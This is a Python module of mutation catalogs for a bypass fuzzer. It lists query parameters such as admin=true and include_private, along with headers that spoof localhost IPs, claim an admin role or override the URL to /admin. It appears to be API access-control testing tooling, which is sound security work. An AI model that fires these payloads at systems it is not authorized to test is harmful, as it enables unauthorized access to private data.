"""
Mutation catalogs for bypass fuzzing.

Each entry is a single (name, value) pair applied on its own. New
mutations are added here; the fuzzer needs no change.
"""

from typing import Dict, List, Sequence, Tuple

Mutation = Tuple[str, str]

# --- Query parameters ---

BYPASS_PARAMS: List[Mutation] = [
    ("include_details", "true"),
    ("show_all", "true"),
    ("all", "true"),
    ("admin", "true"),
    ("debug", "true"),
    ("test", "true"),
    ("internal", "true"),
    ("full", "true"),
    ("verbose", "true"),
    ("expand", "true"),
    ("include_private", "true"),
    ("include_sensitive", "true"),
    ("include_deleted", "true"),
    ("show_hidden", "true"),
    ("bypass", "true"),
    ("override", "true"),
    ("force", "true"),
    ("raw", "true"),
    ("detailed", "true"),
    ("extended", "true"),
]

# Sent as bare keys
SEARCH_PARAMS: List[Mutation] = [
    ("q", ""),
    ("query", ""),
    ("search", ""),
    ("filter", ""),
    ("keyword", ""),
    ("term", ""),
]

PAGINATION_PARAMS: List[Mutation] = [
    ("limit", "10000"),
    ("page_size", "10000"),
    ("per_page", "10000"),
    ("count", "10000"),
    ("size", "10000"),
    ("offset", "0"),
    ("skip", "0"),
]

# --- Headers ---

DEBUG_HEADERS: List[Mutation] = [
    ("X-Debug", "true"),
    ("X-Debug-Mode", "true"),
    ("Debug", "true"),
    ("X-Test", "true"),
    ("X-Internal", "true"),
]

ADMIN_HEADERS: List[Mutation] = [
    ("X-Admin", "true"),
    ("X-Is-Admin", "true"),
    ("X-Role", "admin"),
    ("X-User-Role", "admin"),
    ("X-Privilege", "admin"),
    ("X-Access-Level", "admin"),
]

IP_SPOOF_HEADERS: List[Mutation] = [
    ("X-Forwarded-For", "127.0.0.1"),
    ("X-Real-IP", "127.0.0.1"),
    ("X-Client-IP", "127.0.0.1"),
    ("X-Originating-IP", "127.0.0.1"),
    ("CF-Connecting-IP", "127.0.0.1"),
    ("True-Client-IP", "127.0.0.1"),
    ("X-Forwarded-Host", "localhost"),
]

URL_OVERRIDE_HEADERS: List[Mutation] = [
    ("X-Original-URL", "/admin"),
    ("X-Rewrite-URL", "/admin"),
    ("X-Override-URL", "/admin"),
]

CUSTOM_HEADERS: List[Mutation] = [
    ("X-Custom-IP-Authorization", "127.0.0.1"),
    ("X-Bypass-Cache", "true"),
    ("X-HTTP-Method-Override", "GET"),
]


def _as_maps(*groups: Sequence[Mutation]) -> List[Dict[str, str]]:
    return [{name: value} for group in groups for name, value in group]


def param_mutations() -> List[Dict[str, str]]:
    """All query-parameter mutations, one map per attempt."""
    return _as_maps(BYPASS_PARAMS, SEARCH_PARAMS, PAGINATION_PARAMS)


def header_mutations() -> List[Dict[str, str]]:
    """All header mutations, one map per attempt."""
    return _as_maps(
        DEBUG_HEADERS,
        ADMIN_HEADERS,
        IP_SPOOF_HEADERS,
        URL_OVERRIDE_HEADERS,
        CUSTOM_HEADERS,
    )
